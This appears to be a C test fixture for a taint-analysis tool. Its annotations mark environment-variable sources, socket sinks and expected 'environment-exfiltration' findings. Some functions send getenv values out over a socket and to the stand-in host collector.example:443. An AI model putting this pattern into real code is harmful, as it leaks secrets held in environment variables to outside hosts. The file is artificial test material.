// Handles that are declared as of one type, whether they lead out or not: what they are, those who hand them in know.
// --- path: put.h ---
#include <openssl/bio.h>
#define put(out, text) put_all(out, text, 1)
int put_all(BIO *out, const char *text, int flags);
int put_out(BIO *out, const char *text);
BIO *record(void);

// --- path: put.c ---
#include <stdio.h>
#include <sys/socket.h>
#include "put.h"
int put_all(BIO *out, const char *text, int flags) {
    return BIO_write(out, text, 4); //~ ok
}
int put_out(BIO *out, const char *text) {
    return BIO_write(out, text, 4); //~ sink(egress.socket) out, finding(environment-exfiltration, traced) out
}
BIO *record(void) {
    BIO *out = NULL;
    out = BIO_new_fp(fopen("record", "w"), BIO_CLOSE);
    return out;
}

// --- path: use.c ---
#include <stdlib.h>
#include <sys/socket.h>
#include "put.h"
void memory(int s) {
    BIO *memory = NULL;
    char *text;
    if (!(memory = BIO_new(BIO_s_mem()))) return;
    put(memory, getenv("A")); //~ source(ENVIRONMENT) sent
    BIO_get_mem_data(memory, &text);
    send(s, text, 4, 0); //~ sink(egress.socket) sent, finding(environment-exfiltration, traced) sent
}
void kept(void) {
    BIO *file = record();
    put(file, getenv("B")); //~ ok
}
void out(void) {
    put_out(BIO_new_connect("collector.example:443"), getenv("C")); //~ source(ENVIRONMENT) out
}
